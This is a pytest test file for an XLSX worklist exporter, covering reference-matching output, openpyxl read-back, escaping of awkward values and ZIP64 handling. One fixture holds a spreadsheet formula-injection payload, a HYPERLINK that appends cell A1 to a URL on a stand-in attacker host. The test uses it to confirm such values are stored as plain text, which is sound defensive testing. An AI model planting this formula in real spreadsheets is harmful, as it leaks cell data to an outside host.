"""worklist.xlsx is the workbook XlsxWriter writes cell by cell, part for part (only its creation time
differs), though its rows are made column-wise; openpyxl reads it back, and a sheet past ZIP64's limit is
stored with ZIP64."""

from __future__ import annotations

import copy
import zipfile
from pathlib import Path

import openpyxl
import pytest
from per_cell_xlsx import differing_parts, write_per_cell

from auditor.reports import xlsx, xlsx_package
from auditor.result import AuditResult


@pytest.fixture(scope="module")
def awkward(acme_audit: AuditResult) -> AuditResult:
    """The acme audit with values a sheet must treat apart: a formula, control characters, Excel's own
    escape, kept whitespace, XML's special characters, an infinite amount, a task without severity."""
    result = copy.copy(acme_audit)
    worklist = acme_audit.worklist.copy()
    worklist.loc[0, "current_value"] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    worklist.loc[1, "current_value"] = "bad\x0bvalue\r\n"
    worklist.loc[2, "issue"] = "_x0041_ & <b> \u00a0"
    worklist.loc[3, "money_at_stake"] = float("inf")
    worklist.loc[4, "severity"] = None
    worklist.loc[5, "owner"] = " Ewa "
    result.worklist = worklist
    return result


@pytest.mark.parametrize("which", ["acme", "awkward"])
def test_the_workbook_is_xlsxwriters_cell_by_cell(which: str, request, tmp_path: Path) -> None:
    result = request.getfixturevalue("acme_audit" if which == "acme" else which)
    ours, reference = tmp_path / "ours.xlsx", tmp_path / "reference.xlsx"
    xlsx.write(result, ours)
    write_per_cell(result, reference)
    assert differing_parts(ours, reference) == []
    with zipfile.ZipFile(ours) as package:
        assert package.testzip() is None


def test_openpyxl_reads_the_values_types_and_fills(awkward: AuditResult, tmp_path: Path) -> None:
    path = tmp_path / "worklist.xlsx"
    xlsx.write(awkward, path)
    sheet = openpyxl.load_workbook(path)["Worklist"]
    header = [c.value for c in sheet[1]]
    at = {name: header.index(name) + 1 for name in header}
    worklist = awkward.worklist
    assert sheet.max_row == len(worklist) + 1
    assert sheet.cell(2, at["current_value"]).value == worklist.loc[0, "current_value"]
    assert sheet.cell(2, at["current_value"]).data_type == "s"
    # a carriage return and Excel's escape itself are written escaped, as XlsxWriter writes them: Excel reads
    # them back as they were, openpyxl shows the escapes
    assert sheet.cell(3, at["current_value"]).value == "bad\\x0bvalue_x000D_\n"
    assert sheet.cell(4, at["issue"]).value == "_x005F_x0041_ & <b> \u00a0"
    assert sheet.cell(5, at["money_at_stake"]).value == "=1/0"  # Excel shows #DIV/0!, the value it caches
    assert sheet.cell(7, at["owner"]).value == " Ewa "
    assert sheet.cell(2, at["priority"]).value == worklist.loc[0, "priority"]
    assert sheet.cell(2, at["priority_score"]).value == pytest.approx(worklist.loc[0, "priority_score"])
    for row in (2, 3, 6):
        severity = worklist.loc[row - 2, "severity"]
        fill = sheet.cell(row, at["severity"]).fill
        if severity in xlsx.SEVERITY_FILL:
            assert fill.fgColor.rgb.endswith(xlsx.SEVERITY_FILL[severity].lstrip("#"))
        else:
            assert fill.fill_type is None
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:Y{len(worklist) + 1}"


def test_zip64_only_for_a_sheet_past_its_limit(
    acme_audit: AuditResult, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Excel is strict about ZIP64 records a part does not need: none in a workbook of ordinary size."""
    path = tmp_path / "worklist.xlsx"
    xlsx.write(acme_audit, path)
    with zipfile.ZipFile(path) as package:
        assert {info.extract_version for info in package.infolist()} == {20}
    monkeypatch.setattr(zipfile, "ZIP64_LIMIT", 100_000)  # the Records sheet holds more
    xlsx.write(acme_audit, path)
    with zipfile.ZipFile(path) as package:
        records = package.getinfo("xl/worksheets/sheet3.xml")
        assert records.file_size > 100_000
        assert records.extract_version == zipfile.ZIP64_VERSION
    monkeypatch.undo()
    sheet = openpyxl.load_workbook(path, read_only=True)["Records"]
    assert sum(1 for _ in sheet.iter_rows(min_row=2)) == len(acme_audit.worklist_records)


def test_sheets_of_ordinary_size_go_into_the_zip_as_they_are_made(
    acme_audit: AuditResult, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No sheet goes through a temporary file unless one passes ZIP64's limit (then every sheet does, the
    package made again): on a million contacts writing 800 MB of sheets to disk and reading them back cost
    1.5-2.5 CPU s."""
    made = []
    temporary = xlsx_package.tempfile.TemporaryFile

    def spy() -> object:
        made.append(1)
        return temporary()

    monkeypatch.setattr(xlsx_package.tempfile, "TemporaryFile", spy)
    xlsx.write(acme_audit, tmp_path / "worklist.xlsx")
    assert not made
    monkeypatch.setattr(zipfile, "ZIP64_LIMIT", 100_000)
    xlsx.write(acme_audit, tmp_path / "large.xlsx")
    assert len(made) == 17  # every sheet, once the Records sheet passed the limit
    with zipfile.ZipFile(tmp_path / "large.xlsx") as large, zipfile.ZipFile(tmp_path / "worklist.xlsx") as ordinary:
        assert large.testzip() is None
        assert large.namelist() == ordinary.namelist()
        assert all(large.read(n) == ordinary.read(n) for n in large.namelist() if n != "docProps/core.xml")


def test_a_sheet_part_without_a_header_range_is_refused() -> None:
    with pytest.raises(ValueError, match="header-only used range"):
        xlsx_package._sheet(b"<worksheet><sheetData></sheetData></worksheet>", 3, iter([]), _Sink())


class _Sink:
    def write(self, data: bytes) -> int:
        return len(data)
